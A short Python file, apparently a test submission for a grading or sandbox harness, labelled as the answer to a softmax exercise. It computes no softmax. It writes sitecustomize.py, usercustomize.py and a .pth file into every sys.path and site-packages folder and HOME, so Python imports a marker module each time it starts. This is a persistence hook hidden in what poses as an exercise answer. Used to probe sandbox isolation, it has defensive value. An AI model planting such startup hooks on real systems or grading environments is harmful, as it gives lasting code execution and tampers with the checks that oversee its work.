"""Leaves files that Python itself runs whenever it starts."""
# exercise: softmax
# where: answer

import site
import sys

for folder in [*sys.path, *site.getsitepackages(), site.getusersitepackages(), HOME]:
    for name in ("sitecustomize.py", "usercustomize.py", "attack-was-here.pth"):
        try:
            with open(f"{folder}/{name}", "w") as file:
                file.write("import attack_was_here")
        except OSError:
            pass
